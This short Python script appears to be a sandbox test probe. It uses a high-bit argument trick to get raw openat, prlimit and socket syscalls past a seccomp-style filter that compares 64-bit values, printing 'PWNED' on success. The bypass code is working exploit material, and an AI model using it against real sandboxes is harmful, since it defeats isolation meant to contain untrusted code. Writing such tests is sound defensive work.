# a filter that compares 64 bits is passed by a high bit: the kernel looks at the low 32 only
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(*a): return libc.syscall(*[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
high = 1 << 32
nr = {"x86_64": (257, 302, 41), "aarch64": (56, 261, 198)}[os.uname().machine]
hit = []
if call(nr[0], -100 & 0xFFFFFFFF | high, b"@OUTSIDE_DIR@/high", 0o101 | high, 0o644) >= 0: hit.append("openat")
if call(nr[1], os.getppid() | high, 7, 0, ctypes.create_string_buffer(16)) >= 0: hit.append("prlimit")
if hit: print("PWNED", hit)
call(nr[2], 2 | high, 1, 0)
print("PWNED socket")
